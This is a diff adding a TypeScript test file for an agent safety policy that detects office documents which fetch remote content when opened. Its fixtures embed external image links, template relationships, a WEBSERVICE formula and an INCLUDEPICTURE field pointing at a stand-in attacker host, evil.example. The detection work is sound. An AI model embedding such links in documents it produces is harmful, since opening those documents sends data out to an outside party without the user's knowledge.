@@ -1,0 +1,121 @@
+import { mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { deflateRawSync } from 'node:zlib'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { fetchesWhenShown } from './fetching-files.ts'
+import { findingsOf } from './policy.ts'
+import { Places } from './places.ts'
+import { createSurroundings } from './surroundings.ts'
+import { actOf, controlOf, targetOf, windowOf } from './testing/acts.ts'
+
+let folder: string
+beforeAll(() => {
+  folder = mkdtempSync(join(tmpdir(), 'deskhand-fetching-'))
+})
+afterAll(() => rmSync(folder, { recursive: true }))
+
+/** Packs parts as a zip file, without check sums, which readers of its list do not need. */
+function packed(parts: Record<string, string>): Buffer {
+  const files: Buffer[] = []
+  const list: Buffer[] = []
+  let offset = 0
+  for (const [name, text] of Object.entries(parts)) {
+    const data = deflateRawSync(text)
+    const local = Buffer.alloc(30)
+    local.writeUInt32LE(0x04034b50)
+    local.writeUInt16LE(8, 8)
+    local.writeUInt32LE(data.length, 18)
+    local.writeUInt16LE(name.length, 26)
+    const entry = Buffer.alloc(46)
+    entry.writeUInt32LE(0x02014b50)
+    entry.writeUInt16LE(8, 10)
+    entry.writeUInt32LE(data.length, 20)
+    entry.writeUInt16LE(name.length, 28)
+    entry.writeUInt32LE(offset, 42)
+    files.push(local, Buffer.from(name), data)
+    list.push(entry, Buffer.from(name))
+    offset += 30 + name.length + data.length
+  }
+  const end = Buffer.alloc(22)
+  end.writeUInt32LE(0x06054b50)
+  end.writeUInt16LE(Object.keys(parts).length, 10)
+  end.writeUInt32LE(offset, 16)
+  return Buffer.concat([...files, ...list, end])
+}
+
+function file(name: string, content: Buffer | string): string {
+  const path = join(folder, name)
+  writeFileSync(path, content)
+  return path
+}
+const odt = (content: string) =>
+  packed({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': content })
+const plain =
+  '<office:document xmlns:xlink="http://www.w3.org/1999/xlink"><text:p>See http://a.example</text:p></office:document>'
+
+test.each<[string, string, Buffer | string]>([
+  ['a picture of a web page', 'a.odt', odt('<draw:image xlink:href="http://evil.example/?d=1"/>')],
+  ['a picture of a shared folder', 'b.odt', odt('<draw:image xlink:href="file://evil.example/x.png"/>')],
+  ['a sheet of elsewhere', 'c.ods', odt("<table:table-source xlink:href = 'https://evil.example/x.ods'/>")],
+  [
+    'a template of elsewhere',
+    'd.docx',
+    packed({
+      'word/_rels/settings.xml.rels':
+        '<Relationship Target="https://evil.example/t.dotm" TargetMode="External"/>',
+    }),
+  ],
+  [
+    'a function that fetches',
+    'e.xlsx',
+    packed({ 'xl/worksheets/sheet1.xml': '<f>_xlfn.WEBSERVICE(A1)</f>' }),
+  ],
+  [
+    'an older format',
+    'f.doc',
+    Buffer.concat([
+      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
+      Buffer.from('INCLUDEPICTURE "http://evil.example"', 'utf16le'),
+    ]),
+  ],
+  ['another ending', 'g.data', odt('<draw:image xlink:href="http://evil.example/"/>')],
+  ['a page', 'h.html', ''],
+])('a document with %s fetches: %s', (_, name, content) => {
+  expect(fetchesWhenShown(file(name, content))).toBe(true)
+})
+
+test.each<[string, string, Buffer | string]>([
+  ['addresses in its text only', 'a1.odt', odt(plain)],
+  ['a picture of its own', 'b1.odt', odt('<draw:image xlink:href="Pictures/1.png"/>')],
+  ['no parts', 'c1.zip', packed({})],
+  ['a text', 'd1.txt', '<img src="http://a.example">'],
+  ['nothing', 'e1.txt', ''],
+])('a document with %s fetches nothing: %s', (_, name, content) => {
+  expect(fetchesWhenShown(file(name, content))).toBe(false)
+})
+
+test('what can’t be looked through counts as fetching', () => {
+  const cut = file('cut.odt', odt(plain))
+  truncateSync(cut, 60)
+  expect([fetchesWhenShown(cut), fetchesWhenShown(join(folder, 'missing.odt'))]).toEqual([true, true])
+})
+
+test('a document that the run has made asks before it is opened, in whatever way', () => {
+  const path = file('made.odt', odt('<draw:image xlink:href="http://evil.example/?d=1"/>'))
+  const around = (since: number) =>
+    createSurroundings({ places: new Places({ homes: [folder], own: [] }), since, tainted: () => true })
+  const launch = actOf(
+    'launch_application',
+    { name: path },
+    targetOf(null, null, { kind: 'application', text: path }),
+  )
+  const dialog = windowOf('soffice', 'Open', { kind: 'dialog', modal: true })
+  const choose = actOf('click_input', {}, targetOf(dialog, controlOf('button', 'Open'), { opens: path }))
+  for (const act of [launch, choose]) {
+    const categories = (since: number) =>
+      findingsOf(act, around(since)).findings.map(({ category }) => category)
+    expect(categories(Date.now() - 60_000)).toContain('send')
+    expect(categories(Date.now() + 60_000)).not.toContain('send')
+  }
+})
